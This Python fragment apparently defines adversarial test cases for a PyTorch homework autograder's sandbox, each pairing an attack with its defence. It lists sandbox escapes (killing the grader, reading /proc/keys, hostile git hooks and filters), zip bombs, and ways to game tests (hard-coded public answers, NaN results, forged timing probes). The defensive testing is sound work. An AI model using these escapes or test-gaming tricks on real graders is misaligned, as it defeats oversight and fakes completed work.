    Attack("root_privileges", "escape", "uses root's powers: capabilities, device nodes (a /dev/null twin, "
           "a loop device), a named pipe, the host name, real-time scheduling, keyrings, new namespaces, "
           "mount", "a uid of its own with empty capability sets and no_new_privs; seccomp (mknod, "
           "sethostname, keyctl, unshare, mount); Landlock (no device nodes or pipes)", (),
           append("tensors", ROOT_PRIVILEGES)),
    Attack("snoop_processes", "escape", "reads other processes' command lines (the grader's) and "
           "/proc/keys", "PID namespace: only the sandbox's own processes exist", (),
           append("tensors", SNOOP_PROCESSES), needs=("pid_namespace",)),
    Attack("reach_other_processes", "escape", "prlimit, renice, CPU affinity and I/O priority on its "
           "zygote, PID 1 and every process it can see (each set writes back the value just read)",
           "seccomp: these calls only on itself; PID namespace", (),
           append("tensors", REACH_OTHER_PROCESSES)),
    Attack("host_unix_socket", "escape", "connects to the host's Unix sockets (stream, datagram, "
           "abstract) as it would to Docker's or D-Bus's", "seccomp: no connect(), no AF_UNIX datagram "
           "socket, no sendto() with an address; mount and network namespaces", (),
           append("tensors", HOST_UNIX_SOCKET)),
    Attack("sysv_ipc_leftover", "escape", "creates 8 × 64 MB of System V shared memory, a semaphore set "
           "and message queues, meant to outlive it", "seccomp: no System V IPC and no POSIX queues; IPC "
           "namespace", (), append("tensors", SYSV_IPC)),
    Attack("zero_stride_relu", "fault", "CustomReLU.forward returns torch.zeros(1).expand(30000, 30000): four "
           "bytes on the wire, 3.6 GB if the grader expands them", "the decoder refuses a tensor of more than "
           "limits.max_elements elements, counted by its shape, before anything is materialised",
           ("test_custom_relu*",), append("autograd", ZERO_STRIDE_RELU)),
    Attack("fake_gpu", "cheat", "claims a GPU on a CPU-only machine: patches torch.cuda.is_available "
           "and labels every tensor it sends cuda:0", "the grader decides whether CUDA exists (NVML, "
           "before any student code); a value labelled cuda is refused when it saw no GPU",
           ("task1",), append("tensors", FAKE_GPU)),
    Attack("nan_speedup_table", "cheat", "speedup_table answers NaN for every speed-up, which "
           "`abs(got - want) > tol` never rejects", "number checks refuse NaN and ±inf",
           ("test_speedup_table_with_cuda_rows", "test_speedup_table_matches_reference",
            "test_speedup_table_rejects_bad_rows"), append("performance", NAN_SPEEDUPS)),
    Attack("disk_fill_many_files", "fault", "writes 24 files of 60 MB (each under file_size_mb) at import",
           "the work folder is a tmpfs of disk_mb (256 MB): the writes fail with ENOSPC", (),
           append("tensors", DISK_FILL), needs=("disk_budget",)),
    Attack("kill_the_grader", "escape", "sends SIGKILL to its parent, PID 1, every process (-1) "
           "and its process group", "PID namespace, own session, Landlock signal scope: it can "
           "only kill itself", ("test_chain_rule*[*-chain_rule_backward]", "test_chain_rule_known_value"), append("autograd", ESCAPE_HATCH)),
    # -- earning points without the work --------------------------------------------------------
    Attack("lazy_reject_everything", "cheat", "every function raises ValueError, hoping to pass "
           "the 'rejects bad input' tests", "grading.yml `requires`: error tests count only once "
           "the function gave a right answer", ("task1", "task2", "task3"), lazy(LAZY_RAISE)),
    Attack("lazy_return_none", "cheat", "every function returns None, hoping to pass the "
           "'does not modify its input' tests", "grading.yml `requires`", ("task1", "task2", "task3"),
           lazy(LAZY_NONE)),
    Attack("lazy_no_cuda", "cheat", "every function raises 'CUDA is not available', hoping to pass "
           "the tests for machines without a GPU", "grading.yml `requires`", ("task1", "task2", "task3"),
           lazy(LAZY_CUDA)),
    Attack("probe_abuse", "fault", "measure_time asks the grader to run a probe for NaN, infinite and "
           "10^9 ms, and calls a probe kept from an earlier call, then times honestly",
           "the grader checks a probe's arguments before it counts or sleeps, never sleeps past the "
           "call's deadline (NaN included), and a probe works only during the call it was given to",
           (), append("performance", PROBE_ABUSE)),
    Attack("constant_zero_relu", "cheat", "CustomReLU whose forward and backward return zeros: "
           "consistent with each other, so gradcheck agrees", "gradcheck waits for a test of CustomReLU's "
           "values (requires:)", ("test_custom_relu*",),
           append("autograd", "class CustomReLU(torch.autograd.Function):\n    @staticmethod\n"
                              "    def forward(ctx, x):\n        return torch.zeros_like(x)\n\n"
                              "    @staticmethod\n    def backward(ctx, g):\n        return torch.zeros_like(g)")),
    Attack("index_returns_its_input", "cheat", "index_tensor returns the input itself for every key, "
           "hoping for the 'returns views' and 'leaves its input alone' points", "those tests wait for a "
           "test of index_tensor's values (requires:); only the one right answer counts (a (D, 2, 2) "
           "input is its own central 2 x 2 block: 0.15)", ("test_index_tensor*",),
           append("tensors", "def index_tensor(t):\n"
                             "    return {k: t for k in ('first_row', 'last_column', 'center_2x2', 'even_indices')}"),
           kept=("test_index_tensor_matches_reference[2x2x2-int64-center_2x2]",)),
    Attack("constant_measure_time", "cheat", "measure_time calls f exactly warmup + repeat times, "
           "waits for the GPU, then returns 8.0 instead of a measured time",
           "every timing test also times a second probe, the same way, whose accepted window does not "
           "overlap the first's; the call-count and argument tests wait for a timing test (requires:)",
           ("test_measure_time*",), append("performance", CONSTANT_HARNESS)),
    Attack("probe_forger", "cheat", "measure_time never calls f: it writes the probe's call counter "
           "and what it saw, zeroes its duration and returns that", "a timing probe runs in the grader: "
           "the student's process gets a stand-in without fields, and calls are counted where it "
           "cannot write; nothing of a probe is copied back", ("test_measure_time*",),
           append("performance", PROBE_FORGER)),
    Attack("mutate_inputs", "cheat", "wrong answers, then overwrites the caller's input tensors "
           "(which travel back) so that a reference computed afterwards would agree",
           "the grader checks after every call that no argument tensor changed",
           ("test_tensor_operations*", "test_index_tensor*"), append("tensors", MUTATE_INPUTS)),
    Attack("hard_coded_public_answers", "cheat", "chain_rule_analytic returns the public test's "
           "known value for every input", "hidden tests use other inputs",
           ("test_chain_rule[*-chain_rule_analytic]", "test_chain_rule_matches_reference[*-chain_rule_analytic]"), append("autograd", "def chain_rule_analytic(x):\n"
                                                     "    return torch.full_like(x, -0.8390715290764524) * 4")),
    # -- packaging ------------------------------------------------------------------------------
    Attack("encrypted_zip", "fault", "a password-protected .zip",
           "encrypted members are refused before anything is read: invalid, with the reason",
           ("task1", "task2", "task3"), packaging="zip-encrypted", status="invalid"),
    Attack("git_file_borrows_a_classmate", "cheat", "an entry holding only a `.git` file, "
           "`gitdir: ../late_commit/.git`: a classmate's repository graded as its own",
           "a repository must be its own: a .git file, commondir, alternates or a link out of the entry "
           "is invalid", ("task1", "task2", "task3"), packaging="git-file", status="invalid"),
    Attack("zip_bomb", "fault", "a .zip whose homework module unpacks to 200 MB",
           "the archive's declared sizes are checked before anything is extracted",
           ("task1", "task2", "task3"), packaging="zip-bomb", status="invalid"),
    # -- git repositories (template repositories, graded at a deadline) ------------------------
    Attack("late_commit", "cheat", "finishes Task 3 in a commit after the deadline",
           "the batch grades the last commit at or before --deadline and records late=yes",
           ("task3",), packaging="git", late=True,
           commits=((BEFORE, stub("performance")), (AFTER, {}))),
    Attack("hostile_git_config", "escape", "a repository whose .git/config runs commands from "
           "filters, fsmonitor, the pager, hooks and aliases", "git runs with hooks, fsmonitor and "
           "system config off, and the batch reads blobs with ls-tree/cat-file (no filters)",
           (), packaging="git", late=False, commits=((BEFORE, {}),), git_config=HOSTILE_GIT_CONFIG,
           files={".gitattributes": "*.py filter=evil\n", ".githooks/post-checkout":
                  "#!/bin/sh\ntouch /tmp/@@MARK@@-hook\n"}),
    Attack("symlinked_module", "escape", "homework_tensors.py is a symbolic link to the reference "
           "solution", "modules that are links are refused, with the reason", ("task1",),
           packaging="symlink"),
]
